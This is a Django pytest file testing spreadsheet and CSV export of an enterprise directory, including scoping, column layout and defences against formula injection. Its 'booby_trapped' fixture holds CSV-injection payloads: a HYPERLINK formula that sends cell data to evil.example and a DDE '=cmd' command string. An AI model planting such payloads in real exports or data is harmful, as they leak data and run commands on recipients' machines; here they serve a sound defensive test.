"""Exporting the directory: only the scoped rows, in the import's columns, never a live formula."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from enterprises import columns
from enterprises.exporting import export_csv, export_xlsx, template_xlsx
from enterprises.importing import prepare_import
from enterprises.models import Enterprise
from tsprotect.core.spreadsheets import neutralise

from .conftest import make_uscc

pytestmark = pytest.mark.django_db

EXPORT_HEADERS = [column.header for column in columns.EXPORT_COLUMNS]


def xlsx_rows(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


def csv_text(lines):
    return "".join(lines)


def csv_rows(lines):
    return list(csv.reader(io.StringIO(csv_text(lines).removeprefix("\ufeff"), newline="")))


@pytest.fixture
def booby_trapped(regions):
    return Enterprise.objects.create(
        uscc=make_uscc("430104", "MA4L0F001"),
        name='=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        legal_representative="+SUM(1,2)",
        address="-2+3",
        contact_person="@李四",
        protection_needs="\t=cmd|' /C calc'!A0",
        contact_phone="\r=1+1",
        prefecture_id="430100",
        county_id="430104",
    )


def test_it_exports_only_the_rows_of_the_scoped_queryset(
    changsha_officer, changsha_enterprise, changsha_other_county_enterprise, yueyang_enterprise
):
    queryset = Enterprise.objects.restrict(changsha_officer, "view")
    xlsx_names = {row[1] for row in xlsx_rows(export_xlsx(queryset))[1:]}
    csv_names = {row[1] for row in csv_rows(export_csv(queryset))[1:]}
    expected = {changsha_enterprise.name, changsha_other_county_enterprise.name}
    assert xlsx_names == csv_names == expected
    assert yueyang_enterprise.uscc not in csv_text(export_csv(queryset))


def test_a_county_officers_export_holds_their_county_only(
    yuelu_officer, changsha_enterprise, changsha_other_county_enterprise
):
    queryset = Enterprise.objects.restrict(yuelu_officer, "view")
    assert [row[0] for row in csv_rows(export_csv(queryset))[1:]] == [changsha_enterprise.uscc]


def test_formula_cells_are_neutralised_in_both_exports(booby_trapped):
    queryset = Enterprise.objects.all()
    by_header = dict(zip(EXPORT_HEADERS, xlsx_rows(export_xlsx(queryset))[1], strict=True))
    from_csv = dict(zip(EXPORT_HEADERS, csv_rows(export_csv(queryset))[1], strict=True))
    for exported in (by_header, from_csv):
        assert exported["企业名称"] == "'" + booby_trapped.name
        assert exported["法定代表人"] == "'+SUM(1,2)"
        assert exported["地址"] == "'-2+3"
        assert exported["联系人"] == "'@李四"
        assert exported["保护需求"].startswith("'\t=")
        assert exported["联系电话"].startswith("'")
    # No cell of the workbook is stored as a formula.
    sheet = openpyxl.load_workbook(io.BytesIO(export_xlsx(queryset))).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_neutralise_leaves_ordinary_values_alone():
    assert neutralise("长沙麓谷芯片科技有限公司") == "长沙麓谷芯片科技有限公司"
    assert neutralise("0731-88888888") == "0731-88888888"
    assert neutralise("") == ""
    assert neutralise(42) == 42
    assert neutralise(None) is None
    assert [neutralise(t) for t in ("=1", "+1", "-1", "@A", "\t1", "\r1")] == [
        "'=1",
        "'+1",
        "'-1",
        "'@A",
        "'\t1",
        "'\r1",
    ]


def test_the_export_has_the_import_columns_then_prefecture_status_and_filing_time(
    changsha_enterprise,
):
    changsha_enterprise.industry_division = "39"
    changsha_enterprise.size_class = "medium"
    changsha_enterprise.is_high_tech = True
    changsha_enterprise.staff_count = 420
    changsha_enterprise.last_confirmed_on = datetime.date(2026, 11, 25)
    changsha_enterprise.save()
    with translation.override("en"):
        header, row = csv_rows(export_csv(Enterprise.objects.all()))
    assert header == EXPORT_HEADERS
    assert header[-3:] == ["市州", "状态", "录入时间"]
    exported = dict(zip(header, row, strict=True))
    assert exported["统一社会信用代码"] == changsha_enterprise.uscc
    assert exported["县市区"] == "岳麓区" and exported["市州"] == "长沙市"
    assert exported["行业大类代码"] == "39" and exported["企业规模"] == "中型"
    assert exported["高新技术企业"] == "是" and exported["老字号"] == "否"
    assert exported["员工人数"] == "420" and exported["研发人员数"] == ""
    assert exported["最近确认日期"] == "2026-11-25"
    assert exported["状态"] == "In the directory"
    assert exported["录入时间"].startswith(str(changsha_enterprise.created_at.year))


def test_the_csv_starts_with_a_bom_so_excel_reads_the_chinese(changsha_enterprise):
    first = next(iter(export_csv(Enterprise.objects.all())))
    assert first.startswith("\ufeff统一社会信用代码,企业名称,")


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_an_export_re_imports_without_any_change(changsha_officer, booby_trapped, fmt):
    # Surrounding whitespace is trimmed on import, so only the formula prefixes travel back.
    booby_trapped.protection_needs = "=cmd|' /C calc'!A0"
    booby_trapped.contact_phone = "-1"
    booby_trapped.size_class = "micro"
    booby_trapped.rd_staff_count = 3
    booby_trapped.last_confirmed_on = datetime.date(2026, 1, 5)
    booby_trapped.save()
    queryset = Enterprise.objects.restrict(changsha_officer, "view")
    if fmt == "xlsx":
        data = export_xlsx(queryset)
    else:
        data = csv_text(export_csv(queryset)).encode()
    upload = SimpleUploadedFile(f"export.{fmt}", data)
    preview = prepare_import(upload, user=changsha_officer, prefecture="430100")
    assert preview.errors == []
    assert (preview.create_count, preview.update_count, preview.unchanged_count) == (0, 0, 1)


def test_the_export_reads_the_rows_in_a_constant_number_of_queries(
    changsha_officer, changsha_enterprise, django_assert_max_num_queries
):
    Enterprise.objects.bulk_create(
        Enterprise(
            uscc=make_uscc("430104", f"MA4L1{index:04d}"),
            name=f"批量企业{index}",
            prefecture_id="430100",
            county_id="430104",
        )
        for index in range(300)
    )
    queryset = Enterprise.objects.restrict(changsha_officer, "view")
    with django_assert_max_num_queries(6):
        assert len(csv_rows(export_csv(queryset))) == 302
    with django_assert_max_num_queries(6):
        assert len(xlsx_rows(export_xlsx(queryset))) == 302


def test_the_template_has_the_import_headers_and_explains_each_column(regions):
    workbook = openpyxl.load_workbook(io.BytesIO(template_xlsx()))
    data, instructions = workbook.worksheets
    assert [cell.value for cell in data[1]] == [column.header for column in columns.COLUMNS]
    assert data.max_row == 1
    explained = {row[0]: row for row in instructions.iter_rows(min_row=2, values_only=True)}
    assert set(explained) == {column.header for column in columns.COLUMNS}
    assert explained["统一社会信用代码"][1] == "是"
    # Typed-in codes stay text: Excel would turn 18 digits into 9.14301E+17.
    assert data.column_dimensions["A"].number_format == "@"
    assert data.freeze_panes == "A2"
